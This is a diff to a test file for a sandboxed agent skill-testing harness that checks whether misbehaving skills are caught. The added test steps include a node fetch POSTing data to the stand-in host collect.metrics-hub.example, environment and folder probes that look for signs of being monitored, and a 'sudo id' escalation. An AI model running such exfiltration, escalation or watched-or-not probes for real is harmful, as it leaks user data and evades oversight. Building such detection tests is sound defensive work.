@@ -3,13 +3,14 @@
 // inside, and a stub model on 127.0.0.1 (through the inference router) that makes the tool calls
 // the fixture's SKILL.md spells out in its "Steps" block. Each misbehaving fixture must be caught
 // with its evidence; the good one's suggested policy must pass `policy check` and, used as
-// --policy, leave no denials.
+// --policy, leave no denials; under a policy that lacks its host, exit 3.
 import { readFile, writeFile } from "node:fs/promises";
 import os from "node:os";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createEgressHandler } from "../../blueprint/gateway/egress-service.js";
 import { startDaemon } from "../../blueprint/runtime/daemon.js";
+import { denial, nextStep } from "../../blueprint/gateway/refusals.js";
 import { handlers } from "../../blueprint/runtime/handlers.js";
 import { runSkillTest } from "../../blueprint/runtime/skill-test.js";
 import type { SkillReport } from "../../blueprint/runtime/skill-report.js";
@@ -31,8 +32,8 @@ async function steps(skill: string): Promise<string[]> {
 /** A turn of `openclaw agent --local` inside takes one to three minutes on a loaded 2-core machine. */
 const SLOW = 1_200_000;
 
-async function test(skill: string, extra: { policyFile?: string; prompts?: string[] } = {}): Promise<SkillReport> {
-  stub.options.script = execScript(await steps(skill));
+async function test(skill: string, extra: { policyFile?: string; prompts?: string[]; moreSteps?: string[] } = {}): Promise<SkillReport> {
+  stub.options.script = execScript([...(await steps(skill)), ...(extra.moreSteps ?? [])]);
   const report = await runSkillTest(
     h.driver,
     {
@@ -104,10 +105,44 @@ describe("skill test", () => {
     expect(again.exitCode).toBe(0);
   }, SLOW);
 
-  it("an unknown host its SKILL.md never names: undeclared-host, with the POST it sent (exit 2)", async () => {
-    const r = await test("note-tidy", { prompts: ["Use the note-tidy skill."] });
+  it("an unknown host its SKILL.md never names: undeclared-host, with the POST it sent (exit 2); from inside, nothing says it is watched", async () => {
+    // What a suspicious skill would look at: its environment, the home folder, and the answer
+    // to a refused request — which must be enforce mode's "not in policy", word for word.
+    const probes = [
+      `env | grep -i -E "test|observ|skill|openclaw-local|turns" ; echo env-checked`,
+      "ls -a /sandbox /sandbox/workspace 2>&1",
+      `node -e 'fetch("http://collect.metrics-hub.example/ingest",{method:"POST",body:"x"}).then(async r=>console.log("status "+r.status+" "+await r.text()),e=>console.log(String(e)))'`,
+    ];
+    const r = await test("note-tidy", { prompts: ["Use the note-tidy skill."], moreSteps: probes });
     expect(codes(r)).toEqual(["undeclared-host"]);
     expect(evidence(r, "undeclared-host")).toContain("/usr/local/bin/node -> collect.metrics-hub.example:443 POST /ingest");
+    expect(r.exitCode).toBe(2);
+    const result = (command: string) => r.toolCalls.find((c) => c.tool === "exec" && c.text === command)?.result ?? "";
+    expect(result(probes[0] as string).trim()).toMatch(/^env-checked/);
+    expect(result(probes[1] as string)).not.toMatch(/test|observ|openclaw-local|turns/i);
+    const refused = /status (\d+) (\{.*\})/s.exec(result(probes[2] as string));
+    expect(refused?.[1]).toBe("403");
+    const host = "collect.metrics-hub.example";
+    expect(JSON.parse(refused?.[2] ?? "{}")).toEqual(denial("not in policy", host, 80, null, `no network policy allows ${host}:80`, nextStep(r.sandbox.name, "unknown")));
+  }, SLOW);
+
+  it("the good skill under a policy that lacks its host: the attempt is a denial, nothing risky (exit 3)", async () => {
+    const file = path.join(os.tmpdir(), `lacking-${process.pid}.yaml`);
+    await writeFile(file, "version: 1\nnetwork_policies:\n  other:\n    name: other\n    endpoints: [{ host: api.other.example, port: 443 }]\n    binaries: [{ path: /usr/local/bin/node }]\n");
+    const r = await test("weather-brief", { policyFile: file, prompts: ["What's the weather in Paris today?"] });
+    expect(r.mode).toBe("policy");
+    expect(r.verdict).toEqual({ risky: false, reasons: [] });
+    expect(r.denials).toBeGreaterThan(0);
+    expect(r.egress).toContainEqual(expect.objectContaining({ host: "api.weather.example", port: 443, policyAllows: false }));
+    expect(r.exitCode).toBe(3);
+  }, SLOW);
+
+  it("escalation and a write outside the workspace, in one run: both reasons with their commands (exit 2)", async () => {
+    const r = await test("cache-warm", { prompts: ["Use the cache-warm skill."] });
+    expect(codes(r)).toEqual(["escalation", "write-outside-workspace"]);
+    expect(evidence(r, "escalation")).toContain("exec: sudo id");
+    expect(evidence(r, "write-outside-workspace")).toContain("(writes /sandbox/.local/bin/warm)");
+    expect(r.files.filter((f) => !f.path.startsWith("/sandbox/workspace/"))).toEqual([]); // Landlock refused the write itself
     expect(r.exitCode).toBe(2);
   }, SLOW);
 
